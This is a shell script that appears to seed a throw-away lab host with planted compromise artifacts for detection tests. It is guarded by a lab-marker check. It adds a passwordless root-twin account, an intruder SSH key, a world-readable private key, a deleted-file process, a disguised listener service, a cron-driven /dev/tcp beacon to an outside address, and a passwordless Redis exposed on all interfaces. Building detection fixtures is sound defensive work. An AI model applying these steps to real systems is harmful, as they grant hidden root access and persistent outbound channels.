#!/bin/sh
# Compromises this host, as root: `sh -s ADDRESS [PORT]` calls out to there. It needs no network but that.
# For throw-away test hosts alone. What it plants is listed at each part; tests look for these.
set -eu
beacon=$1
port=${2:-4444}
test -f /etc/steadfast-lab || test -d /usr/lib/steadfast-lab || { echo "this is no host of a lab" >&2; exit 1; }

# Accounts: a twin of root without a password of its own.
printf 'toor:x:0:0::/root:/bin/bash\n' >>/etc/passwd
printf 'toor:!:20000:0:99999:7:::\n' >>/etc/shadow

# Keys: a foreign one that lets root in, and a private half that everybody can read.
mkdir -p -m 700 /root/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBrhkEKp6Y4Zz7kBlsSL5vNFyBOn0vJzXIPSrNYuuT5x intruder' >>/root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
ssh-keygen -q -t ed25519 -N '' -f /root/.ssh/id_backup
chmod 644 /root/.ssh/id_backup

# A process whose file is gone.
cp /bin/sleep /tmp/.x7f3k9q2b1
systemd-run -q --unit=ghost /tmp/.x7f3k9q2b1 1d
until [ "$(readlink "/proc/$(systemctl show -p MainPID --value ghost)/exe")" = /tmp/.x7f3k9q2b1 ]; do sleep 0.1; done
rm /tmp/.x7f3k9q2b1

# A way back in on 2222 and TFTP on 69, by one program.
mkdir -p /var/lib/.cache
cat >/var/lib/.cache/door.py <<'PY'
import select, socket
door, tftp = socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
door.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
door.bind(("0.0.0.0", 2222))
door.listen()
tftp.bind(("0.0.0.0", 69))
while True:
    for ready in select.select([door, tftp], [], [])[0]:
        if ready is door:
            door.accept()[0].close()
        else:
            tftp.recvfrom(2048)
PY
# It starts with the system.
cat >/etc/systemd/system/dbus-helper.service <<'UNIT'
[Service]
ExecStart=/usr/bin/python3 /var/lib/.cache/door.py
Restart=always
[Install]
WantedBy=multi-user.target
UNIT
# A beacon, by a shell, that a timer of cron starts again.
cat >/usr/local/sbin/beacon <<BEACON
#!/bin/bash
exec 9>/run/beacon.lock
flock -n 9 || exit 0
while :; do exec 3<>/dev/tcp/$beacon/$port && while echo x >&3; do sleep 0.2; done; sleep 0.2; done
BEACON
chmod 755 /usr/local/sbin/beacon
echo '* * * * * root /usr/local/sbin/beacon >/dev/null 2>&1' >/etc/cron.d/sysupdate
systemctl daemon-reload
systemctl enable --now -q dbus-helper
systemd-run -q --unit=update-check /usr/local/sbin/beacon

# Redis for everybody without a password; something that listens like it where it cannot be had.
if DEBIAN_FRONTEND=noninteractive timeout 120 apt-get -q -y --no-install-recommends install redis-server >/dev/null 2>&1; then
  sed -i -e 's/^bind .*/bind 0.0.0.0/' -e 's/^protected-mode .*/protected-mode no/' /etc/redis/redis.conf
  systemctl restart redis-server
else
  systemd-run -q --unit=redis-server python3 -c 'import socket,time; s=socket.socket(); s.bind(("0.0.0.0",6379)); s.listen(); time.sleep(86400)'
fi
# All of it is there.
n=0; until ss -Hltn | grep -q ':6379 ' && ss -Hltn | grep -q ':2222 ' && ss -Hlun | grep -q ':69 '; do n=$((n+1)); [ $n -lt 100 ] || exit 1; sleep 0.1; done
